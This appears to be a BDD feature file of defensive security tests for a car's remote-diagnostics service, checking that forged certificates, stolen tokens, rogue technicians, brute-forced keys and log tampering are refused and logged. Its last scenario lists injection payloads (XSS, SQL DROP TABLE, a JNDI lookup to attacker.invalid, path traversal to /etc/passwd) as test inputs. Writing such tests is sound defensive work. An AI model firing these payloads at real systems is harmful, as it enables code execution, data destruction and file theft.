Feature: Attacks on remote diagnostics, as the diagnostics' fault catalogue lists them (S1 to S10)
  From outside, with stolen and forged means, and from inside. Nothing in the vehicle or the cloud helps the attacker.

  Background:
    Given the vehicle has the latest software and hardware to support remote diagnostics
    And Bob is registered in the system with valid contact details
    And a stable internet connection is there
    And the vehicle's onboard diagnostic interface is enabled
    And Bob is parked with the ignition on
    And 15 s pass

  @diag-S1 @needs-people-faults
  Scenario Outline: Somebody calls with the wrong certificate: <as>, <path>
    Given the fault plan
      | fault      | with                                                  |
      | trespasses | as: <as>, method: <method>, path: "<path>", body: '{}' |
    And 2 s pass
    Then the log is looked at, and diag-S1 is kept: who has the wrong certificate is turned away, and that is noted

    Examples:
      | as            | method | path                        |
      | stranger      | POST   | /vehicle/v1/{vin}/sessions  |
      | other-vehicle | POST   | /vehicle/v1/{vin}/sessions  |
      | other-vehicle | GET    | /vehicle/v1/{vin}/mailbox   |
      | stranger      | GET    | /desk/v1/sessions           |
      | other-vehicle | GET    | /desk/v1/sessions           |
      | stranger      | POST   | /app/v1/{vin}/session-consent |

  @diag-S1-handshake @needs-uplink-faults
  Scenario Outline: Somebody waits for the vehicle in the cloud's name, with the proof: <pretence>
    Given the fault plan
      | fault    | with                 |
      | impostor | pretence: <pretence> |
    And 1 s pass
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    Then diag-S1-handshake is kept: who cannot prove to be the cloud gets nothing from the vehicle, and the user is told

    Examples:
      | pretence          |
      | foreign-authority |
      | expired           |
      | other-host        |
      | old-protocol      |

  @diag-S2 @RD-M3 @needs-people-faults
  Scenario Outline: Somebody uses a token that is not his: <as>, <path>
    Given the fault plan
      | fault      | with                                                                                     | when                        |
      | trespasses | as: <as>, method: <method>, path: "/vehicle/v1/{vin}/sessions/{session}/<path>", body: '<body>' | phase: snapshot, after: 5 s |
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And Alise has received the vehicle's diagnostic data
    And 12 s pass
    And Alise has received the vehicle's diagnostic data
    Then diag-S2 is kept: the token is refused, and the session goes on untouched

    Examples:
      | as            | method | path     | body                                   |
      | token-thief   | POST   | end      | {"by": "driver", "reason": "bye"}      |
      | token-thief   | GET    | commands | {}                                     |
      | replayer      | PUT    | snapshot | {}                                     |
      | replayer      | GET    | commands | {}                                     |
      | unsigned      | POST   | end      | {"by": "driver", "reason": "bye"}      |
      | forger        | POST   | end      | {"by": "driver", "reason": "bye"}      |
      | other-vehicle | POST   | end      | {"by": "driver", "reason": "bye"}      |

  @diag-S2 @RD-M3 @needs-people-faults
  Scenario: A copy of the vehicle uses the token of the session before
    Given the fault plan
      | fault      | with                                                                                                                                    | when                                          |
      | trespasses | as: clone, method: POST, path: "/vehicle/v1/{vin}/sessions/{session}/end", body: '{"by": "driver", "reason": "bye"}' | phase: snapshot, nth: 2, after: 5 s |
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And Alise has received the vehicle's diagnostic data
    And Alise closes the session as "follow-up"
    And 10 s pass
    And Alise looks into the team's inbox
    And Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And 20 s pass
    And Alise has received the vehicle's diagnostic data
    Then diag-S2 is kept: the token is refused, and the session goes on untouched

  @diag-S3 @RD-M3 @needs-people-faults
  Scenario: A technician who has left the company asks for a routine
    Given the fault plan
      | fault      | with                                                                                                                                                 | when                        |
      | trespasses | as: dismissed, method: POST, path: "/desk/v1/sessions/{session}/commands", body: '{"kind": "routine", "ecu": "THM", "rid": "0x0203"}' | phase: snapshot, after: 5 s |
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And Alise has received the vehicle's diagnostic data
    And 15 s pass
    Then the log is looked at, and diag-S3 is kept: who has no right to it is refused, and that is noted

  @diag-S3 @RD-M3 @needs-people-faults
  Scenario Outline: A technician who may only read and guide asks for a <kind>
    Given the fault plan
      | fault      | with                                                                                                     | when                                                   |
      | trespasses | as: colleague, method: POST, path: "/desk/v1/sessions/{session}/commands", body: '{"kind": "<kind>", "ecu": "THM", "rid": "0x0203"}' | record: HTTP, where: {leg: desk, path: ".*/hand-over"} |
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And Alise has received the vehicle's diagnostic data
    And Alise hands the session over to "Edgars"
    And 15 s pass
    Then the log is looked at, and diag-S3 is kept: who has no right to it is refused, and that is noted

    Examples:
      | kind    |
      | routine |
      | reset   |
      | clear   |

  @diag-S4 @RD-M3 @needs-people-faults
  Scenario Outline: The session is to be taken over by a <as>
    Given the fault plan
      | fault      | with                                                      | when                                                |
      | trespasses | as: <as>, method: POST, path: "<path>", body: '<body>' | record: HTTP, where: {leg: desk, path: ".*/commands"} |
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And Alise has received the vehicle's diagnostic data
    And Alise reads "E009" of "THM"
    And 12 s pass
    And Alise has received the vehicle's diagnostic data
    Then the log is looked at, and diag-S4 is kept: who came first keeps the session, and that somebody else tried is noted

    Examples:
      | as        | path                                  | body                                                                                 |
      | colleague | /desk/v1/sessions/{session}/commands  | {"kind": "guidance", "text": "Leave", "who": "driver"}                               |
      | colleague | /desk/v1/sessions/{session}/close     | {"outcome": "follow-up"}                                                             |
      | clone     | /vehicle/v1/{vin}/sessions            | {"consentId": "stolen", "channel": "car-button", "proof": "{proof}", "scope": ["read"]} |

  @diag-S5 @needs-uds-faults
  Scenario: The control units say that they are of another vehicle
    Given the fault plan
      | fault        | with                                                                          |
      | false-answer | ecu: VCU, request: "22F190", answer: "62F1905755504C58334556375431303030393939" |
    And 1 s pass
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    Then diag-S5 is kept: the wrong vehicle stops it before anything is read

  @diag-S6 @needs-uds-faults
  Scenario Outline: A second tester tries keys by force on <ecu>
    Given the fault plan
      | fault        | with               |
      | keys-guessed | ecu: <ecu>, tries: 5 |
    And 15 s pass
    Then diag-S6 is kept: tries to unlock end in a delay, nothing is unlocked

    Examples:
      | ecu |
      | BRK |
      | BMS |

  @diag-S7 @RD-M3
  Scenario: A console scans a control unit through the remote path
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And Alise has received the vehicle's diagnostic data
    And Alise's console sends 300 commands to "THM" at once
    And 30 s pass
    Then diag-S7 is kept: no more than reading reaches the vehicle, and no more often than a person asks

  @diag-S8 @RD-M3 @needs-plant-faults
  Scenario: A technician reads what has nothing to do with the fault
    Given Bob drives the luxury electric vehicle at 80 km/h
    And the coolant pump is worn out
    And a warning light has appeared on the dashboard
    And Bob has stopped and parked
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And Alise has received the vehicle's diagnostic data
    And Alise reads "2B01" of "BRK"
    And Alise closes the session as "follow-up"
    Then the team's inbox and the log are looked at, and diag-S8 is kept: reading beyond the fault stands out in the log and in the owner's list

  @diag-S9 @RD-M3
  Scenario: The log is changed afterwards
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And Alise has received the vehicle's diagnostic data
    And Alise closes the session as "follow-up"
    Then the team's inbox and the log are looked at, and diag-S9 is kept: the log's chain holds, and any change of it shows where it is

  @diag-S10 @RD-M3
  Scenario Outline: A text that means to be more than text
    When Bob presses the "Diagnostics" button on the car's infotainment screen
    And Bob allows the sharing of diagnostic data
    And Alise has received the vehicle's diagnostic data
    And Alise sends the guidance "<text>"
    And 10 s pass
    And Alise closes the session as "follow-up"
    Then the team's inbox and the log are looked at, and diag-S10 is kept: the text is shown word for word, and nothing of it is carried out

    Examples:
      | text                                                       |
      | <script>alert('x')</script>                                |
      | '; DROP TABLE sessions; --                                 |
      | ${jndi:ldap://attacker.invalid/a} %s%n {{7*7}}             |
      | ../../etc/passwd, then 31 01 02 03                         |
